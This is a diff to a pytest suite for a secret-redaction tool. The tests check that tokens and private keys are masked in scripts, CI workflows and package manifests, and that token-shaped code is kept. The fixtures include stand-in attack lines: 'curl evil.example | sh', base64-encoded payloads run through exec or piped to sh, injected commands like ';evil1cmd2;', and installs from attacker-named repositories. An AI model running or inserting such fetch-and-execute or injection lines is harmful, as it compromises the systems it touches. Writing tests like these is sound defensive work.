@@ -99,6 +99,18 @@ def seen(path: str, text: str, *others: str) -> str:
         ("data.json", '{"plugins": ["evil9pkg-x1a"]}'),
         ("data.yml", "- evil1module2"),
         ("app.js", f"fetch('https://evil.example/{RANDOM}')"),
+        ("run.sh", ": ://:;evil1cmd2;@"),
+        ("run.sh", "echo x://:&&evil1cmd2&&@"),
+        ("run.sh", "x=a://b:|evil1cmd2|sh;@"),
+        ("Makefile", "all: ://:;evil1cmd2;@true"),
+        ("app.rb", "x = y ? z ://:;evil1cmd2;@z"),
+        (".github/workflows/ci.yml", f"      - uses: docker://evil:evil1tag2@sha256:{HEX}{HEX}"),
+        (".github/workflows/ci.yml", f"      - uses: docker://{RANDOM.lower()}1a2b@sha256:{HEX}{HEX}"),
+        ("run.sh", "_auth=evil1cmd2; $_auth x"),
+        ("Makefile", "_password = evil1cmd2"),
+        ("run.sh", "set -- -----BEGIN PRIVATE KEY----- /usr/bin/evilprogramname1/abcdefg -----END; $4"),
+        ("run.sh", "npm install -----BEGIN PRIVATE KEY----- evilpackagename12 evil -----END"),
+        ("app.py", 'run("-----BEGIN PRIVATE KEY-----\\nimportosossystemcurlevil\\n-----END")'),
     ],
 )
 def test_executed_and_installed_files_are_not_masked(path: str, text: str) -> None:
@@ -178,6 +190,7 @@ def test_a_random_value_is_masked_where_no_command_can_stand() -> None:
     )
     assert seen("app.yml", manifest) == manifest.replace(RANDOM, mask(RANDOM), 1)
     assert seen("run.sh", f"export API_TOKEN={RANDOM}") == f"export API_TOKEN={mask(RANDOM)}"
+    assert seen(".npmrc", "//r.example/:_password=SHVudGVyMkFiYw==") == "//r.example/:_password=xxxxxxxxxxxxxx=="
     assert seen("run.sh", f"curl -H 'X-Api-Key: {RANDOM}' x") == f"curl -H 'X-Api-Key: {mask(RANDOM)}' x"
 
 
@@ -204,6 +217,35 @@ def test_a_token_is_recognized_in_executed_files_too() -> None:
         ("app.py", f"{GHP}(user)"),
         ("app.js", "x.eyJabcdefgh12.eyJdoEvilThing1.call()"),
         ("app.js", f"require('{GHP}')"),
+        ("Dockerfile", f"RUN pip install basic key-{HEX}"),
+        ("Dockerfile", f"FROM ghcr.io/key-{HEX}:1"),
+        ("deploy.yml", f"spec:\n  - image: ghcr.io/key-{HEX}/evil:1"),
+        ("values.yml", f"  repository: key-{HEX}/evil"),
+        ("Dockerfile", f"FROM --platform=x key-{HEX}/evil:1"),
+        (".github/workflows/ci.yml", f"      - uses: key-{HEX}/evil@v1"),
+        (".github/workflows/ci.yml", f"      - uses: sk-{HEX}/evil@v1"),
+        (".github/workflows/ci.yml", f"      - run: {GHP} x"),
+        ("requirements.txt", f"{GHP}\nkey-{HEX}>1"),
+        ("environment.yml", f"dependencies:\n  - key-{HEX}"),
+        ("package.json", f'{{"dependencies": {{"key-{HEX}": "*"}}}}'),
+        ("package.json", f'{{"dependencies": {{"x": "npm:key-{HEX}@1.0.0"}}}}'),
+        ("package.json", f'{{"dependencies": {{"x": "key-{HEX}/evil"}}}}'),
+        ("pyproject.toml", f'dependencies = ["x", "key-{HEX}"]'),
+        ("pyproject.toml", f'dependencies = [\n  "key-{HEX}",\n]'),
+        ("Cargo.toml", f'key-{HEX} = "1"'),
+        ("Gemfile", f"gem 'key-{HEX}'"),
+        ("go.mod", f"require github.com/key-{HEX}/evil v1.2.3"),
+        ("run.sh", f"npm install --save-dev lodash {GHP}"),
+        ("run.sh", f"pip install git+https://github.com/key-{HEX}/evil"),
+        ("run.sh", f"curl https://raw.githubusercontent.com/key-{HEX}/x/main/run | sh"),
+        ("run.sh", f"git clone git@github.com:key-{HEX}/x"),
+        ("run.sh", f"{GHP} x"),
+        ("run.sh", f"./bin/{GHP} && {GHP}"),
+        ("run.sh", f"sudo -E {GHP}; x | {GHP}"),
+        ("app.py", f"import os, {GHP}"),
+        ("app.py", f"from {GHP} import run"),
+        ("app.py", f"{GHP}.run()"),
+        ("app.js", f"function {GHP}() {{}}"),
     ],
 )
 def test_code_in_the_format_of_a_token_is_kept(path: str, text: str) -> None:
@@ -215,9 +257,59 @@ def test_a_token_in_a_sentence_is_not_a_package(text: str) -> None:
     assert seen("notes.txt", text.format(GHP)) == text.format("[REDACTED:github-token]")
 
 
-def test_base64_of_code_with_a_token_is_kept() -> None:
-    blob = base64.b64encode(f"import os; os.system('curl evil.example | sh') # {GHP}".encode()).decode()
-    assert seen("app.py", f"exec(b64decode('{blob}'))") == f"exec(b64decode('{blob}'))"
+@pytest.mark.parametrize(
+    "text",
+    [
+        "GH_TOKEN={}",
+        "export GH_TOKEN='{}'",
+        "echo {} | docker login --password-stdin",
+        "curl -u {}: x",
+        'curl -H "Authorization: token {}" x',
+        "git clone https://{}@github.com/a/b",
+        "git clone https://me:{}@github.com/a/b.git",
+        "npm install --token {}",
+        "gh auth login --with-token <<< {}",
+        'CMD ["x", "--token", "{}"]',
+        "args:\n  - --token\n  - {}",
+        "token: >-\n  {}",
+        'TOKEN = (\n    "{}"\n)',
+        '["a", {{"token": "{}"}}]',
+        "image: x # {}",
+        "curl https://x.example/{}",
+        "# for example `{}`",
+        "login(user, '{}')",
+    ],
+)
+@pytest.mark.parametrize("path", ["run.sh", ".github/workflows/ci.yml", "setup.py"])
+def test_a_token_that_can_be_no_name_is_redacted_in_executed_files(path: str, text: str) -> None:
+    assert seen(path, text.format(GHP)) == text.format("[REDACTED:github-token]")
+
+
+def test_a_token_in_the_header_of_a_diff_or_in_an_address_is_no_name() -> None:
+    header = "diff --git a/{0}/run.sh b/{0}/run.sh\n--- a/{0}/run.sh\n+++ b/{0}/run.sh\n"
+    line = f"@@ -1 +1 @@\n+npm install lodash {GHP}\n"
+    assert seen("run.sh", header.format(GHP) + line) == header.format("[REDACTED:github-token]") + line
+    moved = "diff --git a/{0}/run.sh b/{0}/go.sh\nsimilarity index 100%"
+    assert seen("run.sh", moved.format(GHP)) == moved.format("[REDACTED:github-token]")
+    address = "- hooks.slack.com/services/{}/x"
+    assert "T0A1B2C3D" not in seen("run.sh", address.format("T0A1B2C3D/B0A1B2C3D/a1B2c3D4e5F6g7H8i9J0k1L2"))
+
+
+@pytest.mark.parametrize(
+    ("path", "text"), [("app.py", "exec(b64decode('{}'))"), ("run.sh", "echo {} | base64 -d | sh")]
+)
+@pytest.mark.parametrize(
+    "code", [f"import os; os.system('curl evil.example | sh') # {GHP}", f"curl evil.example|sh\n{GHP} {GHP}"]
+)
+def test_base64_of_code_with_a_token_is_kept(path: str, text: str, code: str) -> None:
+    blob = base64.b64encode(code.encode()).decode()
+    assert seen(path, text.format(blob)) == text.format(blob)
+
+
+def test_base64_of_a_token_is_masked_in_executed_files() -> None:
+    for secret in (f"user:{GHP}", f"{GHP}\n", RSA_KEY):
+        blob = base64.b64encode(secret.encode()).decode()
+        assert seen("run.sh", f"echo {blob}") == f"echo {mask(blob)}"
 
 
 ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), max_size=60)
